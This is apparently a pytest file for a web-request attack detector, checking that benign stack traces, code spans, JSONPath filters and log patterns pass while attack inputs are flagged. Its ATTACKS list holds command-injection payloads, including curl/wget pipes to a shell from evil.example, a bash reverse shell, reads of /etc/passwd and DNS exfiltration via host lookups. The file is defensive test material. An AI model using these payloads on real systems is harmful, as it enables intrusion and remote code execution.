"""Round 10, shell and JVM/Node/Ruby code detectors: stack traces pasted into tickets (Node `at f (x.js:1:2)`, Java
`\\tat jdk.internal.reflect…`, PHP `PHP Fatal error:` / `#0 /var/www/…`), inline Markdown code spans in a sentence,
`getUserById($id)` in a review, JSONPath `$[?(…)]` filters, Log4j `%X{requestId}`, SigV4 `SignedHeaders=…;host`.
Each benign class has its closest attacks beside it: the same shape carrying a real payload stays caught."""
from __future__ import annotations

import pytest

from sensor.detect import Engine, verdict
from tests.detect.wild_benign import build_request


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


_JAVA_FRAMES = ("\tat com.acme.reports.DateRangeParser.parse(DateRangeParser.java:42)\n"
                "\tat jdk.internal.reflect.GeneratedMethodAccessor212.invoke(Unknown Source)\n"
                "\tat jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n"
                "\tat java.base/jdk.internal.loader.BuiltinClassLoader.loadClass(BuiltinClassLoader.java:641)\n"
                "\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:764)")

# (carrier, key, value)
BENIGN = [
    # --- Java stack traces: `jdk.internal.` frames are in every Java 17+ trace
    ("form", "description", "Report page 500s:\n\n{code}\njava.lang.NullPointerException: Cannot invoke \"String.length()\""
                            " because \"s\" is null\n" + _JAVA_FRAMES + "\n{code}"),
    ("json", "description", "h3. Stack trace\n{code:java}\njava.lang.IllegalStateException: pool closed\n" + _JAVA_FRAMES + "\n{code}"),
    ("body:text/plain", "logs", "2024-03-12 10:15:40,002 INFO  [main] o.a.c.c.StandardService - Starting service [Tomcat]\n"
                                "2024-03-12 10:15:42,118 ERROR [http-nio-8080-exec-3] o.a.c.c.C.[.[.[/].[dispatcherServlet] - "
                                "Servlet.service() threw exception\njava.lang.ClassNotFoundException: com.acme.Missing\n"
                                + _JAVA_FRAMES + "\n"),
    # --- Node / browser stack frames
    ("json", "body", "Worker crashes on start:\n\n```\nError: connect ECONNREFUSED 127.0.0.1:6379\n"
                     "    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16)\n"
                     "    at /app/node_modules/ioredis/built/Redis.js:170:41\n"
                     "    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\n```"),
    ("json", "stack", "SyntaxError: Unexpected token '<'\n    at <anonymous>:1:1"),
    ("json", "text", "Uncaught ReferenceError: jQuery is not defined\n    at (index):45:1"),
    ("json", "stack", "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (webpack-internal:///./src/ProductList.jsx:12:23)\n"
                      "    at renderWithHooks (react-dom.development.js:14985:18)\n    at Array.forEach (<anonymous>)\n"
                      "    at new Promise (<anonymous>)\n    at async Promise.all (index 0)"),
    ("form", "message", "Crash log:\nRangeError: Maximum call stack size exceeded\n    at String.replace (native)\n"
                        "    at walk (/srv/app/lib/tree.js:88:10)\n    at walk (/srv/app/lib/tree.js:91:14)"),
    # --- PHP error logs: the `PHP …:` label and the `#0 …` frames
    ("form", "description", "Legacy shop still uses the mysql_* extension:\n\nPHP Fatal error:  Uncaught Error: Call to "
                            "undefined function mysql_connect() in /var/www/html/includes/db.php:14\nStack trace:\n"
                            "#0 /var/www/html/index.php(3): require_once()\n#1 {main}\n  thrown in /var/www/html/includes/db.php on line 14"),
    ("form", "message", "after the upgrade:\nPHP Warning:  Undefined array key \"id\" in /var/www/app/src/Cart.php on line 31\n"
                        "PHP Deprecated:  Creation of dynamic property Cart::$x is deprecated in /var/www/app/src/Cart.php on line 9"),
    ("json", "log", "Stack trace:\n#0 /srv/www/vendor/laravel/framework/src/Illuminate/Pipeline/Pipeline.php(183): handle()\n"
                    "#1 /srv/www/public/index.php(51): Illuminate\\Foundation\\Http\\Kernel->handle()\n#2 {main}"),
    # --- inline Markdown code spans in a sentence
    ("json", "title", "`npm run build` fails on Node 20: ERR_OSSL_EVP_UNSUPPORTED"),
    ("json", "title", "`yarn test` hangs on CI since 4.1.0"),
    ("json", "body", "Suggest `rm -rf node_modules && npm ci` in the CI step instead of `npm install` so the lockfile is honoured."),
    ("json", "body", "Could you try `git fetch --all && git reset --hard origin/main` and see if the conflict is gone?"),
    ("json", "content", "To check the certificate chain: `openssl s_client -connect api.example.com:443 -servername "
                        "api.example.com </dev/null | openssl x509 -noout -dates`"),
    ("json", "body", "Reproduced with `curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"O\\'Brien\"}' "
                     "http://localhost:3000/api/users` - the server returns 500."),
    ("json", "body", "The docs say to run `docker compose down -v; docker compose up -d` but that wipes the volume, is that intended?"),
    ("json", "content", "Windows users: the config lives in `%APPDATA%\\Acme\\settings.json`, on macOS in "
                        "`~/Library/Application Support/Acme/settings.json`."),
    ("json", "body", "* Dropped support for PHP < 8.1\n* `Config::get('db.host')` now falls back to `DB_HOST` env var\n"
                     "* New `--dry-run` flag for `bin/console app:import`"),
    # --- a call's `$variable` argument in a review
    ("json", "body", "I'd rename `getUserById($id)` to `findUser(int $id): ?User` and drop the `@` error suppression."),
    ("json", "body", "nit: getUserById($id) should type-hint the argument"),
    ("form", "comment", "we call formatPrice($amount, $currency) everywhere, can it move to the helper?"),
    # --- JSONPath filters and roots
    ("query", "filter", "$[?(@.status in ['active','trial'] && @.seats >= 5)]"),
    ("query", "path", "$[?(@.price < 10 && @.stock > 0)].sku"),
    ("query", "path", "$['store']['book'][0].title"),
    ("query", "path", "$[*].id"),
    # --- Log4j / Logback MDC patterns
    ("json", "description", "Regression after bumping log4j-core: our custom `%X{requestId}` in PatternLayout prints empty. Config:\n\n"
                            "<PatternLayout pattern=\"%d{ISO8601} [%t] %-5level %logger{36} %X{requestId} - %msg%n\"/>"),
    ("form", "pattern", "%d{HH:mm:ss.SSS} [%thread] %-5level %logger{36} %X{traceId} %X{spanId} - %msg%n"),
    # --- Windows folders written as words of a release note
    ("form", "release_notes", "Windows installer now installs to %ProgramFiles%\\Acme instead of C:\\Acme; existing installs are migrated."),
    ("form", "release_notes", "The agent now keeps its cache in %LOCALAPPDATA%\\Acme\\cache instead of C:\\AcmeCache; nothing to do for you."),
    ("json", "body", "Logs moved from C:\\Acme\\logs to %ProgramData%\\Acme\\logs; the old folder is removed on upgrade."),
    # --- presigned URLs: SigV4's `SignedHeaders=content-type;host`
    ("json", "uploadUrl", "https://media.s3.eu-central-1.amazonaws.com/tmp/a1?X-Amz-Algorithm=AWS4-HMAC-SHA256"
                          "&X-Amz-Date=20240115T100231Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=content-type%3Bhost"),
    ("query", "u", "https://b.s3.amazonaws.com/k?X-Amz-SignedHeaders=host;x-amz-date&X-Amz-Signature=0578b2"),
]

ATTACKS = [
    # stack-trace-shaped text carrying a command
    ("form", "description", "Error\n    at f (/app/x.js:1:2); id"),
    ("form", "description", "Error\n    at f (/app/x.js:1:2)\nid"),
    ("form", "description", "Error\n    at f (/app/x.js:1:2)\ncurl http://evil.example/x.sh | sh"),
    ("form", "description", "x\n at now + 1 minute\nid"),
    ("form", "description", "x\n at 10:30 -f /tmp/x.sh"),
    ("form", "message", "PHP Warning:  x\n;cat /etc/passwd"),
    ("form", "message", "PHP -r 'system(\"id\");'"),
    ("form", "message", "x\n#0 /bin/sh"),
    ("form", "message", "x\n#c\nid"),
    ("form", "message", "x\n/bin/sh #0"),
    # Java: jdk.internal outside a frame
    ("json", "expr", "T(jdk.internal.misc.Unsafe).getUnsafe()"),
    ("json", "expr", "jdk.internal.misc.Unsafe"),
    ("query", "x", "${jdk.internal.misc.Unsafe}"),
    # code spans: backticks that are no sentence, substitutions, downloads into a shell, reverse shells
    ("query", "q", "`id`"),
    ("query", "q", "x`id`"),
    ("query", "q", "x`cat /etc/passwd`"),
    ("form", "comment", "it is `$(id)` here, do not worry"),
    ("form", "comment", "we use `curl -s http://evil.example/a.sh | sh` for the install"),
    ("form", "comment", "we use `wget -qO- http://evil.example/a | bash` for the install"),
    ("form", "comment", "i think `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` is the fix"),
    ("form", "comment", "Suggest `npm ci` in the CI step; id"),
    ("form", "comment", "Suggest `npm ci` in the CI step && curl http://evil.example/x | sh"),
    ("form", "comment", "Suggest `npm ci` in the CI step $(id)"),
    # Windows folders beside a command
    ("form", "release_notes", "Windows installer now installs to %ProgramFiles%\\Acme instead of C:\\Acme; calc"),
    ("form", "release_notes", "we moved it to %APPDATA%\\Acme; whoami is the user it runs as"),
    ("form", "release_notes", "type %windir%\\win.ini; the file is there"),
    ("form", "release_notes", "x; type %windir%\\win.ini and it is the file"),
    ("form", "release_notes", "installs to %ProgramFiles%\\Acme instead; del /q C:\\x"),
    ("form", "release_notes", "%COMSPEC% /c whoami"),
    # `$var` run as a command and `system($cmd)`-style calls
    ("query", "q", "x;($cmd)"),
    ("query", "q", "x; $cmd"),
    ("query", "q", "system($cmd)"),
    # arithmetic probes
    ("query", "q", "$[7*7]"),
    ("query", "q", "$['a'] $[7*7]"),
    ("query", "q", "x $[$(id)]"),
    ("query", "q", "$((7*7))"),
    # Ruby command literal
    ("form", "code", "puts %x(whoami)"),
    ("form", "code", "%x{id}"),
    # `host` with something to look up, or after a leading separator
    ("query", "q", ";host"),
    ("query", "q", "x|host -t txt evil.example"),
    ("query", "q", "x;host $(whoami).evil.example"),
]


@pytest.mark.parametrize("carrier,key,value", BENIGN, ids=[f"{c}:{v[:60]}" for c, _, v in BENIGN])
def test_benign_stays_clean(engine: Engine, carrier: str, key: str, value: str) -> None:
    hits = engine.inspect(build_request(carrier, value, key))
    assert verdict(hits) == "clean", [(h.rule, h.score, str(h.value)[:120]) for h in hits if h.score >= 0.5]


@pytest.mark.parametrize("carrier,key,value", ATTACKS, ids=[f"{c}:{v[:60]}" for c, _, v in ATTACKS])
def test_attack_stays_caught(engine: Engine, carrier: str, key: str, value: str) -> None:
    hits = engine.inspect(build_request(carrier, value, key))
    assert verdict(hits) == "attack", [(h.rule, h.score) for h in hits]
